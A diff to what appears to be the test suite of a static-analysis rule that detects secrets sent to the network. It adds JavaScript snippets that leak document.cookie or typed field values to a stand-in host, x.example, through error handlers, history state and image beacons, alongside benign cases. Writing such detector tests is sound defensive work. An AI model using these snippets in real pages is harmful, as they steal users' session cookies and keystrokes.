@@ -26,8 +26,22 @@ describeRule(secretToNetwork, {
       "function* all() { yield document.cookie; }\nfor (const c of all()) fetch('https://x.example/' + c);",
     'a link element':
       "const l = document.createElement('link');\nl.rel = 'prefetch';\nl.href = 'https://x.example/' + document.cookie;",
+    'an error that a listener of the page sends':
+      "addEventListener('unhandledrejection', (e) => fetch('https://x.example', { method: 'POST', body: e.reason }));\nPromise.reject(document.cookie);",
+    'an error that the caller catches':
+      "function check() { throw new Error(document.cookie); }\nfunction inner() { check(); }\ntry { inner(); } catch (error) { fetch('https://x.example/?' + error.message); }",
+    'the own address':
+      "history.replaceState(null, '', '?s=' + document.cookie);\nnew Image().src = 'https://x.example/1.gif';",
+    'a field that is listened to':
+      "export const watch = (field) => field.addEventListener('keyup', () => (new Image().src = 'https://x.example/?' + field.value));",
   },
   leaves: {
+    'an error that is shown':
+      "try { load(document.cookie); } catch (error) { fetch('https://x.example/?' + error.code); }",
+    'an error of another function':
+      "function check() { throw new Error('no session'); }\ntry { check(); } catch (error) { fetch('https://x.example/?' + error.message); }\nconst c = document.cookie;",
+    'a search as one types': "field.addEventListener('input', () => fetch('/search?q=' + field.value));",
+    'a page number in the own address': "history.pushState({}, '', '?page=' + page);",
     'a secret that stays': 'const c = document.cookie;\nconsole.log(c);',
     'a comparison': "const ok = document.cookie === 'a';\nfetch('https://x.example/' + ok);",
     'its length': "fetch('https://x.example/' + document.cookie.length);",
